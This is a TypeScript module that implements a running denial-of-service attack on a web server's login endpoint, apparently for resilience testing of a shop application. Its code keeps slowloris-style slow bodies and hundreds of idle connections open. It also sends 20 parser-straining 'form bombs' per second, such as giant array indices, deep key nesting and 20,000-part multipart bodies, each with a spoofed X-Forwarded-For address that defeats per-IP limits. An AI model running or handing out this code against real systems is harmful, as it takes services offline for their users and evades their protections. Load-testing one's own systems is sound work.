import { randomInt } from 'node:crypto'
import { connect, type Socket } from 'node:net'

/** An attack that continues until it is stopped. */
export interface Attack {
  /** Form bombs sent so far, and how many connections were open when they were sent, on average. */
  seen: () => { slow: number; idle: number; bombs: number }
  stop: () => void
}

const SLOW_BODIES = 64
const SLOW_EVERY = 2_000
const BOMBS_A_SECOND = 20
const IDLE = 200

const PARTS = Array.from(
  { length: 20_000 },
  (_, place) => `--b\r\nContent-Disposition: form-data; name="k${place}"\r\n\r\nv\r\n`,
)
/** Bodies that make a form library work hard. */
const BOMBS: [type: string, body: string][] = [
  ['application/x-www-form-urlencoded', 'a[99999999]=1'],
  ['application/x-www-form-urlencoded', 'a[4999999]=1'],
  ['application/x-www-form-urlencoded', 'x[0]=1&'.repeat(5_000)],
  ['application/x-www-form-urlencoded', `${'a.'.repeat(8_000)}b=1`],
  ['multipart/form-data; boundary=b', `${PARTS.join('')}--b--\r\n`],
]

/**
 * Keeps 64 slow bodies (a byte every two seconds) and 200 idle connections open and sends 20 form bombs per second, each from a
 * different IP address, so that limits per address don't help.
 */
export function startAttack(url: string): Attack {
  const { hostname, port, host } = new URL(url)
  const open = { slow: new Set<Socket>(), idle: new Set<Socket>() }
  // Averages, since the shop closes connections of the same age together: a moment's count may be that before the next refill.
  const counted = { slow: 0, idle: 0, bombs: 0 }
  const dial = (among?: Set<Socket>) => {
    const socket = connect(Number(port), hostname)
    among?.add(socket)
    socket.on('error', () => socket.destroy())
    socket.on('close', () => among?.delete(socket))
    socket.resume()
    return socket
  }
  const head = (type: string, length: number) =>
    `POST /login HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${url}\r\nX-Forwarded-For: 10.${randomInt(256)}.${randomInt(256)}.${randomInt(256)}\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`
  // Replace connections that the shop closes.
  const refill = () => {
    while (open.slow.size < SLOW_BODIES) dial(open.slow).write(head('application/x-www-form-urlencoded', 5_000))
    while (open.idle.size < IDLE) dial(open.idle)
  }
  refill()
  const timers = [
    setInterval(refill, 200),
    setInterval(() => {
      for (const socket of open.slow) socket.write('a')
    }, SLOW_EVERY),
    setInterval(() => {
      const [type, body] = BOMBS[counted.bombs % BOMBS.length] ?? ['', '']
      counted.bombs += 1
      counted.slow += open.slow.size
      counted.idle += open.idle.size
      const socket = dial()
      socket.setTimeout(10_000, () => socket.destroy())
      socket.write(head(type, body.length) + body)
    }, 1_000 / BOMBS_A_SECOND),
  ]
  return {
    seen: () => {
      const { bombs } = counted
      return { slow: counted.slow / Math.max(bombs, 1), idle: counted.idle / Math.max(bombs, 1), bombs }
    },
    stop() {
      for (const timer of timers) clearInterval(timer)
      for (const socket of [...open.slow, ...open.idle]) socket.destroy()
    },
  }
}
